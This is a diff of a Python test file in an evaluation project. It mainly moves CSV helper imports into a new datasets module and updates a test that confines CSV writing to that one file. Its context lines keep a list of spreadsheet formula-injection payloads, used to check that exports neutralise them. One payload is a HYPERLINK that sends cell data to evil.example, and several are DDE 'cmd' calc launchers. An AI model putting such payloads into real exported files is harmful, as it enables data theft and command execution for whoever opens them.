@@ -15,9 +15,10 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from voproshalych_eval import datasets, reports
+from voproshalych_eval import reports
 from voproshalych_eval.config import PROJECT_ROOT
-from voproshalych_eval.record_files import csv_cell, dataframe_csv, read_file, write_csv
+from voproshalych_eval.datasets import store as datasets
+from voproshalych_eval.datasets.files import csv_cell, dataframe_csv, read_file, write_csv
 
 ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -70,13 +71,13 @@ def test_page_download_csv_neutralises() -> None:
 
 
 def test_every_csv_writer_goes_through_the_one_writer() -> None:
-    """No ``csv.writer`` / ``DictWriter`` / ``DataFrame.to_csv`` outside ``record_files`` (package and pages)."""
+    """No ``csv.writer`` / ``DictWriter`` / ``DataFrame.to_csv`` outside ``datasets.files`` (package and pages)."""
     offenders = []
     pattern = re.compile(r"csv\.writer\(|DictWriter\(|\.to_csv\(")
     roots = [PROJECT_ROOT / "voproshalych_eval", PROJECT_ROOT / "pages", PROJECT_ROOT / "app.py"]
     for root in roots:
         for path in ([root] if root.is_file() else root.rglob("*.py")):
-            if path.name == "record_files.py" or "migrations" in path.parts:
+            if path == PROJECT_ROOT / "voproshalych_eval" / "datasets" / "files.py" or "migrations" in path.parts:
                 continue
             for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                 if pattern.search(line):
